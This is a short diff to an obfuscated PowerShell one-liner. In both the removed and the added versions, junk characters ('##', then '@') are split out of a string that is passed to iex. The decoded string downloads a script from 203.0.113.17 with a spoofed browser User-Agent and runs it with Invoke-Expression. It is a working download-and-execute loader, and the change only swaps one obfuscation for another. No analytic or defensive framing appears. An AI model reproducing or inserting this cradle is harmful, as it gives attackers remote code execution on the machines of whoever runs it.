@@ -1,7 +1,7 @@
-iex (('# setup 8854 v0
-$u ##= ''http://203.0.113.17:443/''
-$wc = New-Object Syst##em.Net.WebClient
-$wc.Headers.Add(''User-Agent'',''Mozilla/5.0'')
-$s = $##wc.DownloadString($u + ''payload.ps1'')
-Invoke-Expression $s
-' -split '\#\#') -join '')
+iex (('# run 9132 v0
+$u = ''http:/@/203.0.113.17:8080/''
+$w@c = New-Object System.Net.WebClient
+$wc.Headers.Ad@d(''User-Agent'',''Mozilla/5.0'')
+$s = $wc.DownloadString($u + ''inv.ps1'')
+Invoke-Exp@ression $s
+' -split '@') -join '')
